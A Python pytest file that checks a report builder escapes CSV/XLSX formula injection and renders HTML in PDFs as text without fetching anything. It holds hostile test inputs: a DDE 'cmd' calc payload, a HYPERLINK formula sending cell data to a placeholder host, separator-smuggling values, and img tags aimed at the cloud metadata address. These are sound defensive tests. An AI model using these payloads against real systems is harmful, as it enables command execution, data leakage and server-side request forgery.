"""reliability-security.md §7.6, rows 34-36: report cells never become formulas; report text fetches nothing.

Reports are built by a real reports worker (in this process, over RabbitMQ and Redis) from rows
given inline or served by an HTTP server on 127.0.0.1, and read back through their signed links.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import dramatiq
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from offload.publish import Publisher
from tests.http_source import Source
from tests.reports.test_build import _download
from tests.support.media import run_job
from tests.support.security import CheckedApi, Egress

#: First characters that make a spreadsheet run a cell (OWASP CSV injection), LF included.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
ROW_34 = ["=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x/?"&A1)']
ROW_35 = ['a","=1+1', "a;=1+1"]
COLUMNS = [{"name": "text", "title": "Text"}, {"name": "n", "type": "integer"}]


def _report(api: CheckedApi, publisher: Publisher, output: str, **source: Any) -> bytes:
    payload = {"title": "Hostile", "columns": COLUMNS, "output": output, **source}
    record = run_job(api, publisher, "report.build", payload, timeout=30)
    assert record.state == "succeeded", (record.error_code, record.error_message)
    return _download(api, record.result["url"])


def _rows(texts: list[str]) -> list[dict[str, Any]]:
    return [{"text": text, "n": index} for index, text in enumerate(texts)]


def _csv_checks(data: bytes, texts: list[str]) -> None:
    text = data.decode()
    for value in texts:
        # Each user value is one quoted field starting with an apostrophe, its quotes doubled.
        assert '"' + ("'" + value if value.startswith(TRIGGERS) else value).replace('"', '""') + '"' in text, value
    for delimiter in (",", ";"):  # parsed as Excel in either locale: no cell starts a formula
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not [cell for cell in row if cell.startswith(TRIGGERS)], (delimiter, row)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[0] for row in parsed[1:]] == ["'" + v if v.startswith(TRIGGERS) else v for v in texts]


def _xlsx_checks(data: bytes, texts: list[str]) -> None:
    sheet = load_workbook(io.BytesIO(data))["Hostile"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []  # 0 formula cells
    user = [row[0] for row in sheet.iter_rows(min_row=2)]
    expected = ["'" + v if v.startswith(TRIGGERS) else v for v in texts]
    assert [cell.value for cell in user] == [v.replace("\r", "\n") for v in expected]  # XML reads CR as LF
    for cell in user:
        assert cell.data_type == "s" and not str(cell.value).startswith(TRIGGERS), cell.value


CASES = {
    "row34-csv": ("csv", ROW_34),
    "row34-xlsx": ("xlsx", ROW_34),
    "row35-csv": ("csv", ROW_35),
    "row35-xlsx": ("xlsx", ROW_35),
}


@pytest.mark.parametrize(("output", "texts"), CASES.values(), ids=CASES.keys())
def test_rows_34_35_formula_and_separator_injection_stay_text(
    api: CheckedApi, publisher: Publisher, reports_worker: dramatiq.Worker, output: str, texts: list[str]
) -> None:
    data = _report(api, publisher, output, rows=_rows(texts))
    (_csv_checks if output == "csv" else _xlsx_checks)(data, texts)


@pytest.mark.parametrize("output", ["csv", "xlsx"], ids=["row34-35-url-source-csv", "row34-35-url-source-xlsx"])
def test_rows_34_35_the_same_from_a_url_source(
    api: CheckedApi, publisher: Publisher, reports_worker: dramatiq.Worker, source: Source, output: str
) -> None:
    # Data fetched from a client's URL is as hostile as data in the request (OWASP API10).
    texts = ROW_34 + ROW_35
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow(["text", "n"])
    writer.writerows([text, index] for index, text in enumerate(texts))
    source.body = buffer.getvalue().encode()
    data = _report(api, publisher, output, source={"url": source.url("/rows.csv"), "format": "csv"})
    (_csv_checks if output == "csv" else _xlsx_checks)(data, texts)


def test_row36_html_in_a_pdf_report_is_drawn_as_text_and_fetches_nothing(
    api: CheckedApi, publisher: Publisher, reports_worker: dramatiq.Worker, source: Source, egress: Egress
) -> None:
    hostile = [
        '<img src="http://169.254.169.254/">',
        f'<img src="{source.url("/pixel.png")}"> <link rel="stylesheet" href="{source.url("/x.css")}">',
    ]
    data = _report(api, publisher, "pdf", rows=_rows(hostile))
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    assert '<img src="http://169.254.169.254/">' in text  # rendered as the text it is
    assert source.requests == 0 and egress.to("127.0.0.1", source.port) == []  # 0 fetches by the renderer
    assert egress.to("169.254.169.254") == []
